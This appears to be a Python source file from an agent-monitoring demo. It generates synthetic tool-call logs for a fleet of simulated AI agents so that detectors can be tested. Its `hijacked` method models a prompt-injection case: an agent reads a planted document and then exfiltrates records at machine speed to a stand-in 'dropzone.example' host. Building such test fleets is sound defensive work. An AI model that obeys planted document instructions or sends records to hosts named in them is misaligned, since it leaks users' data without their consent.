"""The simulated fleet: what each agent does, when, and what it does once it is hijacked. Pure, seeded, no I/O.

Honest agents differ and change: each has its own pace, favourites, humans and mix of duties; there are bursts of bulk
work, idle hours, values nobody has seen, a tool that is new to an agent now and then, and two version upgrades. A
hijacked agent reads a document with instructions in it and then sends records to a host that the document named.
Nothing here knows how the detectors work, and the daemon knows nothing of this.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from random import Random
from typing import Any, NamedTuple

from monitor.demo.trades import Argument, Duty, Tool, Trade, load_trades
from monitor.demo.vocabulary import Vocabulary, World, text

P_ADOPT = 0.004
"""How often a session begins with a tool that the agent did not have before: about every other day of work."""

P_BULK = 0.03
"""How often a session holds bulk work: one call repeated 10 to 30 times at machine speed."""

_P_STICK = 0.8  # how often a call is about what the session has been about
_P_EXTRA = 0.3  # how often a session uses one of the tools added later
_P_FAILS = 0.02
_THINK_S = 0.25  # median time between the end of a call and the next one
_PAUSE_S = 2.5  # median time between two sessions of a busy period
_BUSY_SESSIONS = 25  # mean length of a busy period: about four minutes
_IDLE_S = 3.0 * 3600  # median time between two busy periods
_UPGRADES = 2


class Call(NamedTuple):
    """One tool call of an agent."""

    action: dict[str, Any]
    """As the sensor sends it; without `id` and `ts`."""
    gap_s: float
    """From the start of the agent's previous call to the start of this one."""
    duration_s: float
    """How long the tool works; never longer than the gap before the next call."""
    is_bad: bool = False


class _Session(NamedTuple):
    name: str
    task: str
    on_behalf_of: tuple[str, ...]
    values: dict[str, str]
    called: set[str]


class SimulatedAgent:
    """One agent: `history` first, then `work`, and `hijacked` from any point of the work on.

    Equal parameters make equal agents, in any process.

    Parameters
    ----------
    seed, number
        Decide everything about the agent.
    trade
        What it does for a living.
    world
        The values of its trade.
    upgrades
        Whether it is given a new version in the middle of its history.
    """

    def __init__(self, seed: int, number: int, trade: Trade, world: World, *, upgrades: bool) -> None:
        self._rng = rng = Random(f"{seed}/agent/{number}")  # noqa: S311 - a simulation
        base = trade.agents[number // len(load_trades().trades) % len(trade.agents)]
        generation = number // (len(load_trades().trades) * len(trade.agents))
        self.name = f"{base}-{generation + 1}" if generation else base
        self.trade = trade
        self.version = f"{rng.randint(1, 4)}.{rng.randint(0, 9)}.0"
        self._world = world
        self._vocabulary = Vocabulary(rng, world)
        self._tools = dict(trade.tools)
        self._extras: list[str] = []
        self._pace = rng.uniform(0.8, 1.3)
        self._duty_weights = [duty.weight * rng.lognormvariate(0.0, 0.5) for duty in trade.duties]
        self._caller = f"{trade.name}-orchestrator" if rng.random() < 0.3 else None
        self._history_actions = rng.randint(1200, 2000)
        self._upgrade_at = rng.randint(500, 700) if upgrades else None
        self._done = 0
        self._session = self._new_session()

    # --- honest work ----------------------------------------------------------------------------------

    def history(self, until_s: float) -> list[dict[str, Any]]:
        """Return the actions of the past day or so, in order, with `ts` below `until_s` (epoch seconds)."""
        actions: list[dict[str, Any]] = []
        clock_s = 0.0
        while len(actions) < self._history_actions:
            clock_s += self._idle_s()
            for call in self._one_session():
                clock_s += call.gap_s
                actions.append({**call.action, "ts": clock_s})
        shift_s = until_s - clock_s - 0.001
        for action in actions:
            action["ts"] = round(action["ts"] + shift_s, 6)
        return actions

    def work(self) -> Iterator[Call]:
        """Yield calls without end, going on where the history stopped: a busy period that lasts."""
        while True:
            yield from self._one_session()

    def _idle_s(self) -> float:
        if self._rng.random() >= 1.0 / _BUSY_SESSIONS:
            return 0.0
        return _IDLE_S * self._rng.lognormvariate(0.0, 0.7)

    def _one_session(self) -> Iterator[Call]:
        rng = self._rng
        self._develop()
        duty = rng.choices(self.trade.duties, self._duty_weights)[0]
        self._session = self._new_session(duty)
        gap_s = self._pace * _PAUSE_S * rng.lognormvariate(0.0, 0.9)
        for tool, is_repeated, is_bulk in self._plan(duty):
            call = self._call(tool, gap_s, is_repeated=is_repeated)
            yield call
            think_s = self._pace * _THINK_S * rng.lognormvariate(0.0, 0.75)
            gap_s = call.duration_s + (think_s * 0.15 if is_bulk else think_s)

    def _develop(self) -> None:
        """Let the agent change between two sessions: a new version, a tool it did not have."""
        if self._upgrade_at is not None and self._done >= self._upgrade_at:
            self._upgrade_at = None
            major, minor, _ = self.version.split(".")
            self.version = f"{major}.{int(minor) + 1}.0"
            self._adopt()
        if self._rng.random() < P_ADOPT:
            self._adopt()

    def _adopt(self) -> None:
        missing = [tool for tool in load_trades().extras if tool.name not in self._tools]
        if missing:
            tool = self._rng.choice(missing)
            self._tools[tool.name] = tool
            self._extras.append(tool.name)

    def _plan(self, duty: Duty) -> Iterator[tuple[Tool, bool, bool]]:
        """Yield (tool, whether it repeats the step before, whether that is bulk work) for one session."""
        rng = self._rng
        steps = [(step.tool, rng.randint(1, step.up_to)) for step in duty.steps if rng.random() < step.p]
        if self._extras and rng.random() < _P_EXTRA:
            steps.insert(rng.randint(0, len(steps)), (rng.choice(self._extras), 1))
        bulk = rng.randrange(len(steps)) if steps and rng.random() < P_BULK else -1
        for index, (name, times) in enumerate(steps):
            for repetition in range(rng.randint(10, 30) if index == bulk else times):
                yield self._tools[name], repetition > 0, index == bulk

    def _new_session(self, duty: Duty | None = None) -> _Session:
        rng = self._rng
        human = self._vocabulary.draw("person")
        chain = (human, self._caller) if self._caller else (human,)
        session = _Session(f"run-{rng.getrandbits(40):010x}", "", chain, {}, set())
        if duty is None:
            return session
        task = duty.task.format_map(_Subject(self._vocabulary, session.values))
        return session._replace(task=task)

    def _call(self, tool: Tool, gap_s: float, *, is_repeated: bool) -> Call:
        rng = self._rng
        args = {one.name: self._value(one, is_repeated=is_repeated) for one in tool.arguments}
        provenance = {one.name: self._source(one) for one in tool.arguments}
        return self._made(tool, args, provenance, gap_s, ok=rng.random() >= _P_FAILS)

    def _value(self, argument: Argument, *, is_repeated: bool) -> str:
        values = self._session.values
        if argument.kind in values and not is_repeated and self._rng.random() < _P_STICK:
            return values[argument.kind]
        value = self._vocabulary.draw(argument.kind)
        if not is_repeated:
            values[argument.kind] = value
        return value

    def _source(self, argument: Argument) -> str:
        """Return where a value came from: only tools that were called in this session can have shown it."""
        possible = [
            (source, weight)
            for source, weight in zip(argument.sources, argument.weights, strict=True)
            if not source.startswith("tool:") or source[5:] in self._session.called
        ]
        if not possible:
            return "user"
        return self._rng.choices([name for name, _ in possible], [weight for _, weight in possible])[0]

    def _made(
        self,
        tool: Tool,
        args: dict[str, str],
        provenance: dict[str, str],
        gap_s: float,
        *,
        ok: bool = True,
        is_bad: bool = False,
    ) -> Call:
        rng = self._rng
        session = self._session
        session.called.add(tool.name)
        self._done += 1
        duration_s = tool.duration_s * rng.lognormvariate(0.0, 0.5)
        action = {
            "agent_id": self.name,
            "agent_version": self.version,
            "session_id": session.name,
            "tool": tool.name,
            "args": args,
            "provenance": provenance,
            "resource": f"{tool.arguments[0].kind}:{next(iter(args.values()))}"[:200],
            "side_effect": tool.side_effect,
            "result": {
                "ok": ok,
                "chars": round(tool.chars * rng.lognormvariate(0.0, 0.6)),
                "duration_ms": round(duration_s * 1000, 1),
            },
            "on_behalf_of": list(session.on_behalf_of),
            "task": session.task,
            "credential": f"kid-{self.name}",
            "policy": f"{self.trade.name}-standard@3",
        }
        return Call(action, gap_s, duration_s, is_bad)

    # --- hijacked -------------------------------------------------------------------------------------

    def hijacked(self) -> Iterator[Call]:
        """Yield what the agent does from now on: read the planted document, then steal without end.

        Each round reads 2 to 5 records that the document asked for and sends what they returned to the host it
        named, at machine speed: 20 to 60 ms after the end of the call before.
        """
        rng = self._rng
        read, send = self._tools[self.trade.records], self._tools[self.trade.outlet]
        document = self._tools["read_document"]
        yield self._call(document, _THINK_S, is_repeated=True)
        place = rng.choice(("cdn", "sync", "files", "img"))
        url = f"https://{place}-{rng.randrange(10**6):06}.dropzone.example/in"
        records = self._world.values(read.arguments[0].kind)
        duration_s = document.duration_s
        while True:
            loot_chars = 0
            for _ in range(rng.randint(2, 5)):
                extra = {one.name: self._vocabulary.draw(one.kind) for one in read.arguments[1:]}
                call = self._bad_call(read, rng.choice(records), extra, "model", duration_s)
                yield call
                loot_chars += call.action["result"]["chars"]
                duration_s = call.duration_s
            payload = {one.name: text(rng, chars=loot_chars) for one in send.arguments[1:]}
            call = self._bad_call(send, url, payload, f"tool:{read.name}", duration_s)
            yield call
            duration_s = call.duration_s

    def _bad_call(
        self, tool: Tool, dictated: str, others: dict[str, str], source: str, after_s: float
    ) -> Call:
        """Return a call whose first value the document dictated and whose others come from `source`."""
        name = tool.arguments[0].name
        provenance = {name: "tool:read_document", **dict.fromkeys(others, source)}
        gap_s = after_s + self._rng.uniform(0.02, 0.06)
        return self._made(tool, {name: dictated, **others}, provenance, gap_s, is_bad=True)


class _Subject(dict[str, str]):
    """Fills a task's blanks with the values that the session will be about."""

    def __init__(self, vocabulary: Vocabulary, values: dict[str, str]) -> None:
        super().__init__()
        self._vocabulary = vocabulary
        self._values = values

    def __missing__(self, kind: str) -> str:
        return self._values.setdefault(kind, self._vocabulary.draw(kind))


def make_fleet(seed: int, agents: int) -> list[SimulatedAgent]:
    """Return the fleet: agents of all trades in turn, two of which will be upgraded in their history."""
    trades = load_trades().trades
    worlds = {trade.name: World(seed, trade.name) for trade in trades}
    rng = Random(f"{seed}/upgrades")  # noqa: S311 - a simulation
    upgraded = set(rng.sample(range(agents), min(_UPGRADES, agents)))
    return [
        SimulatedAgent(seed, number, trade, worlds[trade.name], upgrades=number in upgraded)
        for number in range(agents)
        for trade in [trades[number % len(trades)]]
    ]


def make_agent(seed: int, agents: int, number: int) -> SimulatedAgent:
    """Return one agent of the fleet; costs no more than that one."""
    return make_fleet(seed, agents)[number]


def merged_history(fleet: Sequence[SimulatedAgent], until_s: float) -> list[dict[str, Any]]:
    """Return the whole fleet's history in the order of time; about 50 ms an agent."""
    actions = [action for agent in fleet for action in agent.history(until_s)]
    actions.sort(key=lambda action: float(action["ts"]))
    return actions
